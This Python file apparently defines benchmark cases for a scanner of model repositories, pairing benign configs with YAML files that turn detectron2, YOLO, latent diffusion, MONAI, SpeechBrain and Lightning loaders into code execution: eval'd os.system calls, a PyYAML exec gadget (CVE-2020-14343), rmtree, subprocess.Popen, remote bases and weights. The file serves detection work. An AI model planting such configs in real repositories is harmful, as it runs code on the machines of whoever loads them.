"""YAML that a library runs or fetches by: detectron2, YOLO, latent diffusion, MONAI, SpeechBrain, Lightning."""

from __future__ import annotations

from benchmarks.scan.hostile.cases import bad, twin
from benchmarks.scan.hostile.ordinary import CARD, Repo, vit
from benchmarks.scan.hostile.pickle_bytes import WEIGHTS, torch_zip

YOLO = """# Ultralytics YOLOv8 object detection model
nc: 80 # number of classes
{}scales: # model compound scaling constants
  n: [0.33, 0.25, 1024]
backbone:
  # [from, repeats, module, args]
  - [-1, 1, Conv, [64, 3, 2]] # 0-P1/2
  - [-1, 1, Conv, [128, 3, 2]] # 1-P2/4
  - [-1, 3, C2f, [128, True]]
  - [-1, 1, SPPF, [1024, 5]] # 9
head:
  - [-1, 1, nn.Upsample, [None, 2, "nearest"]]
  - [[-1, 6], 1, Concat, [1]] # cat backbone P4
  - [{}, 1, Detect, [{}]] # Detect(P3, P4, P5)
"""
DETECTRON = """{}MODEL:
  META_ARCHITECTURE: GeneralizedRCNN
  MASK_ON: false
  RESNETS:
    DEPTH: 50
SOLVER:
  STEPS: (210000, 250000)
  MAX_ITER: 270000
"""
DIFFUSION = """model:
  base_learning_rate: 1.0e-04
  target: ldm.models.diffusion.ddpm.LatentDiffusion
  params:
    linear_start: 0.00085
    first_stage_key: "jpg"
    unet_config:
      target: ldm.modules.diffusionmodules.openaimodel.UNetModel
      params:
        image_size: 32
        in_channels: 4
    cond_stage_config:
      target: {}
{}"""
SPEECH = """# Hyperparameters
sample_rate: 16000
n_mels: 80
compute_features: !new:speechbrain.lobes.features.Fbank
    n_mels: !ref <n_mels>
label_encoder: !new:speechbrain.dataio.encoder.CategoricalEncoder
modules:
    compute_features: !ref <compute_features>
{}"""
LIGHTNING = """# lightning.pytorch==2.4.0
seed_everything: 42
trainer:
  max_epochs: 10
  callbacks:
    - class_path: lightning.pytorch.callbacks.ModelCheckpoint
      init_args:
        monitor: val_loss
model:
  class_path: {}
  init_args:
    lr: 0.001
{}"""
BUNDLE = """imports:
- $import glob
{}bundle_root: .
ckpt_path: $@bundle_root + '/models/model.pt'
network_def:
  _target_: SegResNet
  spatial_dims: 3
network: $@network_def.to('cpu')
{}"""
PLAIN = "__main__.Classifier"


def bin_repo(path: str, body: str, library: str) -> Repo:
    """A repo of a library with one YAML file and weights of torch."""
    return {path: body, "pytorch_model.bin": torch_zip(WEIGHTS), "README.md": CARD.format(library)}


CASES = [
    bad(
        "base-at-an-address",
        "fvcore's load_yaml_with_base, from detectron2's merge_from_file with allow_unsafe=True: "
        "the base is fetched and read by yaml.unsafe_load",
        lambda: bin_repo(
            "config.yaml", DETECTRON.format("_BASE_: https://cfg.example.net/Base-RCNN-FPN.yaml\n"), "detectron2"
        ),
    ),
    bad(
        "base-outside",
        "the same: a base above the repo is opened and read by yaml.unsafe_load",
        lambda: bin_repo("config.yaml", DETECTRON.format('_BASE_: "~/../../var/tmp/base.yaml"\n'), "detectron2"),
    ),
    bad(
        "activation-is-evaluated",
        "ultralytics 8.0 to 8.3, parse_model: Conv.default_act = eval(act)",
        lambda: bin_repo(
            "yolov8n-custom.yaml",
            YOLO.format("activation: __import__('os').system('true')\n", "[15, 18, 21]", "nc"),
            "ultralytics",
        ),
    ),
    bad(
        "arguments-are-evaluated",
        "YOLOv5's parse_model: every argument that is a text goes through eval",
        lambda: bin_repo(
            "models/yolov5s.yaml",
            YOLO.format("", "[17, 20, 23]", "nc, \"print(open('/etc/hostname').read())\""),
            "yolov5",
        ),
    ),
    bad(
        "target-of-a-stage",
        "latent diffusion's instantiate_from_config calls torch.hub.load, which runs the code of a repo on GitHub",
        lambda: bin_repo(
            "v1-inference.yaml",
            DIFFUSION.format(
                "torch.hub.load",
                "      params:\n        repo_or_dir: someone/else\n        model: net\n        trust_repo: true\n",
            ),
            "ldm",
        ),
    ),
    bad(
        "import-under-an-alias",
        "MONAI's ConfigParser runs the import, then the expression under the alias",
        lambda: bin_repo(
            "configs/inference.yaml",
            BUNDLE.format("- $import shutil as sh\n", "initialize: $sh.rmtree('/var/tmp/hubclean-case', True)\n"),
            "monai",
        ),
    ),
    bad(
        "module-tag",
        "HyperPyYAML's !module: imports; this module of the standard library opens a browser",
        lambda: bin_repo("hyperparams.yaml", SPEECH.format("helper: !module:antigravity\n"), "speechbrain"),
    ),
    bad(
        "weights-by-address",
        "SpeechBrain's Pretrainer fetches weights from an address and reads them by torch.load",
        lambda: bin_repo(
            "hyperparams.yaml",
            SPEECH.format(
                "pretrainer: !new:speechbrain.utils.parameter_transfer.Pretrainer\n    loadables:\n        model: !ref "
                "<label_encoder>\n    paths:\n        model: http://weights.example.net/model.ckpt\n"
            ),
            "speechbrain",
        ),
    ),
    bad(
        "callable-by-path",
        "Lightning's command line: jsonargparse imports what a Callable's path names, the model calls it",
        lambda: bin_repo("config.yaml", LIGHTNING.format(PLAIN, "    loss_fn: os.system\n"), "lightning"),
    ),
    bad(
        "class-of-the-model",
        "Lightning's command line with any class allowed: jsonargparse makes what class_path names",
        lambda: bin_repo("config.yaml", LIGHTNING.format("subprocess.Popen", "    args: ['true']\n"), "lightning"),
    ),
    bad(
        "hparams-of-a-run",
        "Lightning's load_hparams_from_yaml with PyYAML before 5.4 (CVE-2020-14343): a new type whose extend is exec",
        lambda: vit(
            {
                "lightning_logs/version_0/hparams.yaml": "lr: 0.001\nextra: !!python/object/new:type\n"
                "  args: ['z', !!python/tuple [], {extend: "
                '!!python/name:exec }]\n  listitems: "pass"\n'
            }
        ),
    ),
    twin(
        "yolo",
        "ultralytics",
        lambda: bin_repo(
            "yolov8n-relu.yaml", YOLO.format("activation: nn.ReLU()\n", "[15, 18, 21]", "nc"), "ultralytics"
        ),
    ),
    twin(
        "latent-diffusion",
        "latent diffusion",
        lambda: bin_repo(
            "v1-inference.yaml", DIFFUSION.format("ldm.modules.encoders.modules.FrozenCLIPEmbedder", ""), "ldm"
        ),
    ),
    twin(
        "base-beside",
        "detectron2",
        lambda: (
            bin_repo("config.yaml", DETECTRON.format("_BASE_: Base-RCNN-FPN.yaml\n"), "detectron2")
            | {"Base-RCNN-FPN.yaml": DETECTRON.format("")}
        ),
    ),
    twin(
        "lightning",
        "nobody: a log of the run beside a ViT",
        lambda: vit(
            {
                "lightning_logs/version_0/config.yaml": LIGHTNING.format(PLAIN, "    activation: torch.nn.ReLU\n"),
                "lightning_logs/version_0/hparams.yaml": "lr: 0.001\nbatch_size: 32\nlabels: [cat, dog]\n",
            }
        ),
    ),
]
